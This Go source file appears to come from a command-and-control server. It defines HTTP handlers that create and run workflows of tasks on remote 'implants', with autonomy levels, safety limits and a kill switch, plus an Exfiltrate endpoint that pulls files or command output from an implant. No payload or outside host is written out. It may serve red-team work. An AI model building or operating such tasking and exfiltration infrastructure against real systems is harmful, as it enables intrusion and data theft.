package handler

import (
	"net/http"
	"time"

	"github.com/gin-gonic/gin"

	"github.com/ospray/ospray-server/internal/api/http/dto"
	"github.com/ospray/ospray-server/internal/workflow"
)

type WorkflowHandler struct {
	orchestrator *workflow.Orchestrator
}

func NewWorkflowHandler(orchestrator *workflow.Orchestrator) *WorkflowHandler {
	return &WorkflowHandler{orchestrator: orchestrator}
}

func toWorkflowResponse(w *workflow.Workflow) dto.WorkflowResponse {
	return dto.WorkflowResponse{
		ID:          w.ID,
		Name:        w.Name,
		Status:      string(w.Status),
		KillReason:  string(w.KillReason),
		KillDetails: w.KillDetails,
		KilledAt:    w.KilledAt,
		CreatedBy:   w.CreatedBy,
		CreatedAt:   w.CreatedAt,
	}
}

func (h *WorkflowHandler) Create(c *gin.Context) {
	var req dto.CreateWorkflowRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}

	w, err := h.orchestrator.CreateWorkflow(c.Request.Context(), req.Name, c.GetString("user_id"))
	if err != nil {
		respondError(c, err)
		return
	}
	c.JSON(http.StatusCreated, toWorkflowResponse(w))
}

func (h *WorkflowHandler) Get(c *gin.Context) {
	w, err := h.orchestrator.GetWorkflow(c.Request.Context(), c.Param("id"))
	if err != nil {
		respondError(c, err)
		return
	}
	c.JSON(http.StatusOK, toWorkflowResponse(w))
}

func (h *WorkflowHandler) List(c *gin.Context) {
	list, err := h.orchestrator.ListWorkflows(c.Request.Context())
	if err != nil {
		respondError(c, err)
		return
	}

	resp := make([]dto.WorkflowResponse, 0, len(list))
	for i := range list {
		resp = append(resp, toWorkflowResponse(&list[i]))
	}
	c.JSON(http.StatusOK, gin.H{"workflows": resp, "total": len(resp)})
}

// Execute runs the workflow synchronously and returns the full
// execution report. Long workflows are expected; the request context
// carries the deadline.
func (h *WorkflowHandler) Execute(c *gin.Context) {
	var req dto.ExecuteWorkflowRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}

	defs := make([]workflow.TaskDef, 0, len(req.Tasks))
	for _, t := range req.Tasks {
		defs = append(defs, workflow.TaskDef{
			Name:                 t.Name,
			Type:                 t.Type,
			RequiredCapabilities: t.RequiredCapabilities,
			PreferredType:        t.PreferredType,
			Params:               t.Params,
			Priority:             t.Priority,
			Timeout:              time.Duration(t.TimeoutSeconds) * time.Second,
			DependsOn:            t.DependsOn,
			Mandatory:            t.Mandatory,
		})
	}

	report, err := h.orchestrator.ExecuteDistributedWorkflow(c.Request.Context(), c.Param("id"), defs, workflow.ExecOptions{
		AutonomyLevel:    req.AutonomyLevel,
		MaxParallelTasks: req.MaxParallelTasks,
		SafetyLimits:     req.SafetyLimits,
		MatchOptions: workflow.MatchOptions{
			ExcludeImplants:          req.ExcludeImplants,
			RequireConnected:         req.RequireConnected,
			MinimumConnectionQuality: req.MinimumConnectionQuality,
		},
	})
	if err != nil && report == nil {
		respondError(c, err)
		return
	}

	resp := dto.ExecutionReportResponse{
		WorkflowID: report.WorkflowID,
		Status:     string(report.Status),
		Launched:   report.Launched,
		Succeeded:  report.Succeeded,
		Failed:     report.Failed,
		TimedOut:   report.TimedOut,
	}
	for _, t := range report.Tasks {
		resp.Tasks = append(resp.Tasks, dto.TaskOutcomeResponse{
			TaskID:    t.TaskID,
			Name:      t.Name,
			ImplantID: t.ImplantID,
			Outcome:   string(t.Outcome),
		})
	}
	c.JSON(http.StatusOK, resp)
}

// ExecuteTask runs a single task on a chosen implant and blocks until
// it reaches a definite outcome or the bounded wait expires.
func (h *WorkflowHandler) ExecuteTask(c *gin.Context) {
	var req dto.ExecuteTaskRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}

	outcome, err := h.orchestrator.ExecuteTaskOnImplant(c.Request.Context(), c.Param("id"), req.ImplantID, workflow.TaskDef{
		Name:                 req.Task.Name,
		Type:                 req.Task.Type,
		RequiredCapabilities: req.Task.RequiredCapabilities,
		PreferredType:        req.Task.PreferredType,
		Params:               req.Task.Params,
		Priority:             req.Task.Priority,
		Timeout:              time.Duration(req.Task.TimeoutSeconds) * time.Second,
		DependsOn:            req.Task.DependsOn,
		Mandatory:            req.Task.Mandatory,
	}, req.AutonomyLevel)
	if err != nil {
		respondError(c, err)
		return
	}

	c.JSON(http.StatusOK, dto.TaskOutcomeResponse{
		TaskID:    outcome.TaskID,
		Name:      outcome.Name,
		ImplantID: outcome.ImplantID,
		Outcome:   string(outcome.Outcome),
	})
}

func (h *WorkflowHandler) Kill(c *gin.Context) {
	var req dto.KillSwitchRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}

	err := h.orchestrator.ActivateKillSwitch(c.Request.Context(), c.Param("id"), workflow.KillReason(req.Reason), req.Details)
	if err != nil {
		respondError(c, err)
		return
	}
	c.JSON(http.StatusOK, gin.H{"status": "aborted"})
}

func (h *WorkflowHandler) Exfiltrate(c *gin.Context) {
	var req dto.ExfiltrateRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": err.Error()})
		return
	}

	task, err := h.orchestrator.ExfiltrateData(c.Request.Context(), req.ImplantID, c.Param("id"), workflow.ExfilOptions{
		SourceType:         req.SourceType,
		SourcePath:         req.SourcePath,
		Command:            req.Command,
		MaxSizeMB:          req.MaxSizeMB,
		CompressionEnabled: req.CompressionEnabled,
		EncryptionEnabled:  req.EncryptionEnabled,
	})
	if err != nil {
		respondError(c, err)
		return
	}
	c.JSON(http.StatusCreated, toTaskResponse(task))
}
